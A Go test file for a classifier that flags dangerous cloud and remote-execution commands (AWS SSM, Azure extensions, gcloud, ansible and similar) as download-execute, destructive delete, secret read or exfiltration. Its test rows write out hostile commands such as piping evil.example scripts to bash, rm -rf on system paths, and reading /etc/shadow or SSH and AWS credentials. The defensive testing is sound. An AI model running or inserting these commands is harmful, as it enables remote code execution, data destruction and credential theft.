package danger

import (
	"testing"
)

// Tests of elsewhere.go's rules: what each marks, in every form its tool's
// reference gives, and the everyday neighbours it leaves alone.

// TestCloudRunsElsewhere: the commands a cloud hands its machines are
// judged as themselves, as aws ssm send-command's already were: an SSM
// association of AWS-RunShellScript (the SSM create-association
// reference) and an Azure custom script extension's commandToExecute
// (the Custom Script Extension reference); fetched content (a fetching
// SSM document, the extension's fileUris) is download-execute.
func TestCloudRunsElsewhere(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`aws ssm create-association --name AWS-RunShellScript --targets Key=InstanceIds,Values=i-1 --parameters 'commands=["curl http://evil.example/x.sh | bash"]'`, DownloadExecute},
		{`aws ssm create-association --name AWS-RunShellScript --targets Key=tag:env,Values=prod --parameters commands="rm -rf /var/lib/mysql"`, DestructiveDelete},
		{`aws ssm create-association --name AWS-RunRemoteScript --targets Key=InstanceIds,Values=i-1 --parameters '{"sourceType":["S3"],"sourceInfo":["{\"path\":\"s3://b/s.sh\"}"]}'`, DownloadExecute},
		{`az vm extension set -g rg --vm-name vm --name CustomScript --publisher Microsoft.Azure.Extensions --settings '{"commandToExecute": "curl http://evil.example/x.sh | bash"}'`, DownloadExecute},
		{`az vmss extension set -g rg --vmss-name ss --name CustomScript --publisher Microsoft.Azure.Extensions --protected-settings '{"commandToExecute": "rm -rf /var/lib/mysql"}'`, DestructiveDelete},
		{`az vm extension set -g rg --vm-name vm --name CustomScript --publisher Microsoft.Azure.Extensions --settings '{"fileUris": ["https://evil.example/x.sh"], "commandToExecute": "./x.sh"}'`, DownloadExecute},
		{`aws ssm create-association --name AWS-RunShellScript --targets Key=InstanceIds,Values=i-1 --parameters commands=uptime`, ""},
		{`aws ssm list-associations`, ""},
		{`az vm extension set -g rg --vm-name vm --name CustomScript --publisher Microsoft.Azure.Extensions --settings '{"commandToExecute": "uptime"}'`, ""},
		{`az vm extension list -g rg --vm-name vm`, ""},
		{`az vm extension set -g rg --vm-name vm --name OmsAgentForLinux --publisher Microsoft.EnterpriseCloud.Monitoring --settings '{"workspaceId": "w"}'`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestCloudRemoteCommands: the commands a cloud CLI runs in a container,
// a cluster or a cloud shell are judged as themselves (as az vm
// run-command's --scripts and gcloud compute ssh --command are): aws ecs
// execute-command --command (AWS CLI reference), az container exec
// --exec-command, az aks command invoke --command (az reference), gcloud
// cloud-shell ssh --command (gcloud reference); and their copy commands
// as scp: gcloud compute scp|copy-files and gcloud cloud-shell scp
// (localhost: local, cloudshell: remote). Everyday commands, downloads
// and help stay unmarked.
func TestCloudRemoteCommands(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`aws ecs execute-command --cluster c --task t --container app --interactive --command "cat /etc/shadow"`, SecretRead},
		{`aws ecs execute-command --cluster c --task t --interactive --command "rm -rf /"`, DestructiveDelete},
		{`aws ecs execute-command --cluster c --task t --interactive --command "/bin/sh"`, ""},
		{`az container exec -g rg -n c --exec-command "cat /etc/shadow"`, SecretRead},
		{`az container exec -g rg -n c --exec-command "/bin/bash"`, ""},
		{`az aks command invoke -g rg -n c --command "kubectl get secrets -A -o yaml"`, SecretRead},
		{`az aks command invoke -g rg -n c --command "kubectl get pods -n kube-system"`, ""},
		{`gcloud cloud-shell ssh --authorize-session --command "cat ~/.ssh/id_rsa"`, SecretRead},
		{`gcloud cloud-shell ssh --command "ls"`, ""},
		{`gcloud compute scp ~/.ssh/id_rsa vm:/tmp/ --zone us-central1-a`, SecretRead},
		{`gcloud compute scp --zone us-central1-a --recurse ./data vm:~/app`, NetworkExfiltration},
		{`gcloud compute scp --zone us-central1-a --recurse ./build vm:~/app`, ""}, // a build deployed, as scp's
		{`gcloud compute copy-files ./data.tar vm:/tmp/ --zone z`, NetworkExfiltration},
		{`gcloud cloud-shell scp localhost:~/.aws/credentials cloudshell:~/creds`, SecretRead},
		{`gcloud compute scp vm:/var/log/syslog . --zone us-central1-a`, ""},
		{`gcloud cloud-shell scp cloudshell:~/out.txt localhost:~/out.txt`, ""},
		{`gcloud compute scp --help`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestCommandsRunOnOtherMachines: more tools that run a command on a VM or
// hosts, as ssh HOST CMD is judged (runsElsewhere): vagrant ssh -c,
// Fabric's fab -- CMD, az vm run-command --scripts, and ansible's file
// module with state=absent (it removes the path, a folder with all it
// holds). Everyday: the same running harmless commands, state=directory.
func TestCommandsRunOnOtherMachines(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`vagrant ssh -c 'rm -rf ~'`, DestructiveDelete},
		{`fab -H host -- rm -rf /srv`, DestructiveDelete},
		{`az vm run-command invoke -g rg -n vm --command-id RunShellScript --scripts 'rm -rf /var/www'`, DestructiveDelete},
		{`ansible all -m file -a 'path=/var/www state=absent'`, DestructiveDelete},
		{`ansible web -m ansible.builtin.file -a "path=/etc/nginx state=absent"`, DestructiveDelete},
		{`vagrant ssh -c 'uptime'`, ""},
		{`fab -H host -- uptime`, ""},
		{`ansible all -m file -a 'path=/srv/app state=directory'`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}
